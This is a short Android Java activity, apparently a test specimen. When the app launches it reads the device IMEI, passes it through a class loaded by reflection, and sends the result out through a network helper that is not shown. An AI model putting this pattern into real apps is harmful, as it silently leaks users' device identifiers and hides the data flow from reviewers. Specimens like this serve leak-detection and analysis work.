package com.example.specimen;

import android.app.Activity;
import android.os.Bundle;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.main);
        try {
            Object box = Class.forName("com.example.specimen.Box").getConstructor(String.class).newInstance(Imei.read(this));
            Net.send(box.toString());
        } catch (ReflectiveOperationException error) {
            finish();
        }
    }
}
